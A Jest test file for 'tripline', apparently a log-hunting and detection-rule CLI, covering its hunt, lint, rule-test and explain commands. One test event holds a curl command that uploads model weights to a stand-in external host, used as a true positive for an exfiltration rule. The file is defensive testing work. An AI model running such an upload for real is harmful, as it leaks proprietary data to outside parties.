import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';

/** The CLI as users run it: the built entry point in a child process (`npm test` builds first). */
const ROOT = resolve(__dirname, '..');
const MAIN = join(ROOT, 'dist', 'cli', 'main.js');

beforeAll(() => {
  if (!existsSync(MAIN))
    throw new Error(`${MAIN} is missing: run \`npm run build\` (npm test does it first)`);
});

function tripline(args: string[], input?: string): { status: number | null; stdout: string; stderr: string } {
  const result = spawnSync(process.execPath, [MAIN, ...args], { cwd: ROOT, input, encoding: 'utf8' });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function tempDir(): string {
  return mkdtempSync(join(tmpdir(), 'tripline-cli-'));
}

/** The two samples `hunt` reads without a connector (Windows EVTX-JSON and CloudTrail). */
const SAMPLES = ['windows-sysmon.ndjson', 'aws-cloudtrail.ndjson'].map((f) =>
  join(ROOT, 'connectors', 'samples', f),
);
const DETECTIONS = join(ROOT, 'detections');
/** Rule files in detections/ (pipelines and rule tests aside). */
const RULE_COUNT = ruleFiles(DETECTIONS).length;

function ruleFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) return entry.name === 'pipelines' ? [] : ruleFiles(path);
    return entry.name.endsWith('.yml') && !entry.name.endsWith('.tests.yml') ? [path] : [];
  });
}

describe('tripline hunt', () => {
  it('prints a table of alerts with rule, level and author, then a summary, and exits 1', () => {
    const run = tripline(['hunt', '--rules', DETECTIONS, '--no-progress', ...SAMPLES]);
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/TIME\s+LEVEL\s+RULE\s+AUTHOR\s+MATCHED/);
    expect(run.stdout).toContain('AI Provider API Key Harvesting From the Command Line');
    expect(run.stdout).toContain('Bedrock Model Invocation Logging Disabled');
    expect(run.stdout).toMatch(/4 alert\(s\) from 12 record\(s\) in 2 file\(s\)/);
  });

  it('prints NDJSON alerts with the rule author and stable ids with --json', () => {
    const first = tripline(['hunt', '--rules', DETECTIONS, '--json', ...SAMPLES]);
    const second = tripline(['hunt', '--rules', DETECTIONS, '--json', ...SAMPLES]);
    const alerts = first.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { id: string; rule: { author: string; id: string } });
    expect(alerts).toHaveLength(4);
    for (const alert of alerts) expect(alert.rule.author).toBe('tripline');
    expect(second.stdout).toBe(first.stdout);
    const summary = JSON.parse(first.stderr.trim().split('\n').pop() as string) as {
      summary: { alerts: number; records: number };
    };
    expect(summary.summary).toMatchObject({ alerts: 4, records: 12 });
  });

  it('reads standard input, gzip files, and reports bad records without stopping', () => {
    const dir = tempDir();
    const event = {
      eventSource: 'bedrock.amazonaws.com',
      eventName: 'DeleteGuardrail',
      awsRegion: 'us-east-1',
      eventID: 'e1',
    };
    writeFileSync(join(dir, 'events.json.gz'), gzipSync(`${JSON.stringify(event)}\n`));
    const fromGzip = tripline(['hunt', '--rules', DETECTIONS, '--json', join(dir, 'events.json.gz')]);
    expect(fromGzip.stdout).toContain('Bedrock Guardrail Deleted or Weakened');
    const stdin = `{"broken": \n${JSON.stringify({ ...event, eventID: 'e2' })}\n`;
    const fromStdin = tripline(['hunt', '--rules', DETECTIONS, '--json'], stdin);
    expect(fromStdin.status).toBe(1);
    expect(fromStdin.stdout.trim().split('\n')).toHaveLength(1);
    expect(fromStdin.stderr).toMatch(/skipped stdin:1: /);
  });

  it('exits 0 when nothing matches and 2 when the rules cannot be read', () => {
    const dir = tempDir();
    writeFileSync(
      join(dir, 'quiet.ndjson'),
      '{"eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-west-1"}\n',
    );
    expect(tripline(['hunt', '--rules', DETECTIONS, join(dir, 'quiet.ndjson')]).status).toBe(0);
    const missing = tripline(['hunt', '--rules', join(dir, 'nope'), join(dir, 'quiet.ndjson')]);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain('nope');
  });
});

describe('tripline rules lint', () => {
  it('reports every problem of a bad rule with file, line and code, and exits 1', () => {
    const dir = tempDir();
    writeFileSync(
      join(dir, 'bad.yml'),
      [
        'title: Broken',
        'logsource: { product: windows, category: process_creation }',
        'level: severe',
        'detection:',
        '  selection:',
        "    Image|endswith|bogus: '\\x.exe'",
        '  condition: selection and not filter',
        '',
      ].join('\n'),
    );
    const run = tripline(['rules', 'lint', dir]);
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(/bad\.yml:3:\d+\s+error\s+schema\.enum/);
    expect(run.stdout).toMatch(/bad\.yml:6:\d+\s+error\s+modifier\.unknown/);
    expect(run.stdout).toMatch(/bad\.yml:7:\d+\s+error\s+condition\.unknown_identifier/);
    const json = tripline(['rules', 'lint', '--json', dir])
      .stdout.trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(json.pop()).toMatchObject({ summary: { rules: 1, compiled: 0, failed: 1 } });
    expect(json.map((d) => d['code'])).toEqual(
      expect.arrayContaining(['schema.enum', 'modifier.unknown', 'condition.unknown_identifier']),
    );
  });

  it('passes the bundled rules', () => {
    const run = tripline(['rules', 'lint', DETECTIONS]);
    expect(run.stdout).toContain(
      `${RULE_COUNT} rules in ${RULE_COUNT} files: ${RULE_COUNT} compiled (100.00%), 0 failed`,
    );
    expect(run.status).toBe(0);
  });
});

describe('tripline rules test', () => {
  it('passes the bundled rules with --strict', () => {
    const run = tripline(['rules', 'test', '--strict', DETECTIONS]);
    expect(run.stdout).toMatch(
      new RegExp(`for ${RULE_COUNT} rule\\(s\\): \\d+ passed, 0 failed; 0 problem\\(s\\)`),
    );
    expect(run.status).toBe(0);
  });

  it('fails a rule whose true positive does not match, and one without cases under --strict', () => {
    const dir = tempDir();
    const rule = [
      'title: Needs cmd',
      'logsource: { product: windows, category: process_creation }',
      'detection:',
      "  sel: { Image|endswith: '\\cmd.exe' }",
      '  condition: sel',
      '',
    ];
    writeFileSync(join(dir, 'r.yml'), rule.join('\n'));
    writeFileSync(
      join(dir, 'r.tests.yml'),
      "true_positives:\n  - name: not cmd\n    event: { Image: 'C:\\notepad.exe' }\n",
    );
    writeFileSync(join(dir, 'untested.yml'), rule.join('\n').replace('Needs cmd', 'Untested'));
    const run = tripline(['rules', 'test', '--strict', '--json', dir]);
    expect(run.status).toBe(1);
    const lines = run.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toEqual(
      expect.arrayContaining([expect.objectContaining({ case: 'not cmd', passed: false })]),
    );
    expect(lines.filter((l) => l['code'] === 'ruletest.missing_case').length).toBeGreaterThanOrEqual(2);
  });
});

describe('tripline rules explain', () => {
  it('shows which selection and field made the rule match', () => {
    const dir = tempDir();
    const event = {
      Image: 'C:\\Windows\\System32\\curl.exe',
      CommandLine: 'curl.exe -T weights.safetensors https://x.example/',
    };
    writeFileSync(join(dir, 'event.json'), JSON.stringify(event));
    const run = tripline([
      'rules',
      'explain',
      '--rule',
      '0b8c4e51-7d2a-4f36-b1c9-5e8a2f7d3c61',
      '--rules',
      DETECTIONS,
      '--event',
      join(dir, 'event.json'),
    ]);
    expect(run.status).toBe(1);
    expect(run.stdout).toContain('Result:    MATCH');
    expect(run.stdout).toMatch(/✔ selection_curl/);
    expect(run.stdout).toMatch(/✘ selection_rclone/);
    expect(run.stdout).toMatch(/✔ CommandLine\|contains\|windash .*matched by/);
    const json = JSON.parse(
      tripline([
        'rules',
        'explain',
        '--json',
        '--rule',
        join(DETECTIONS, 'windows', 'proc_creation_win_model_weights_upload.yml'),
        '--event',
        join(dir, 'event.json'),
      ]).stdout,
    ) as { matched: boolean };
    expect(json.matched).toBe(true);
  });
});

describe('tripline hunt --source', () => {
  const sample = (id: string): string => join(ROOT, 'connectors', 'samples', `${id}.ndjson`);

  it('reads vendor files through their connector and field mapping', () => {
    const run = tripline([
      'hunt',
      '--rules',
      DETECTIONS,
      '--source',
      'openai-audit',
      '--json',
      sample('openai-audit'),
    ]);
    expect(run.status).toBe(1);
    const alerts = run.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { context: { connector: string } });
    expect(alerts.length).toBeGreaterThan(0);
    expect(alerts.every((a) => a.context.connector === 'openai-audit')).toBe(true);
  });

  it("detects each record's vendor with auto", () => {
    const run = tripline([
      'hunt',
      '--rules',
      DETECTIONS,
      '--source',
      'auto',
      '--json',
      sample('litellm'),
      sample('kubernetes-audit'),
    ]);
    const connectors = new Set(
      run.stdout
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as { context: { connector: string } }).context.connector),
    );
    expect([...connectors].sort()).toEqual(['kubernetes-audit', 'litellm']);
  });

  it('rejects an unknown connector type with the list of known ones', () => {
    const run = tripline(['hunt', '--rules', DETECTIONS, '--source', 'splunk', sample('litellm')]);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/--source: unknown connector type 'splunk' \(known: auto, aws-cloudtrail/);
  });
});

describe('tripline demo (npm start)', () => {
  it('runs the pipeline in-process over the bundled samples and shows alerts', () => {
    const run = tripline(['demo']);
    expect(run.status).toBe(0);
    expect(run.stderr).toContain('embedded (in-process bus)');
    expect(run.stdout).toContain('Bedrock Model Invocation Logging Disabled');
    expect(run.stdout).toMatch(/detector: \d+ events evaluated, [1-9]\d* alerts, 0 dead-lettered/);
  });
});

describe('the tripline command', () => {
  it('starts through its first line (as an installed bin does), with the larger young generation', () => {
    const [interpreter, ...args] = readFileSync(MAIN, 'utf8').split('\n')[0]!.slice(2).trim().split(/\s+/);
    expect(args).toEqual(['-S', 'node', '--max-semi-space-size=64']);
    const run = spawnSync(interpreter!, [...args, MAIN, '--version'], { cwd: ROOT, encoding: 'utf8' });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
  });
});
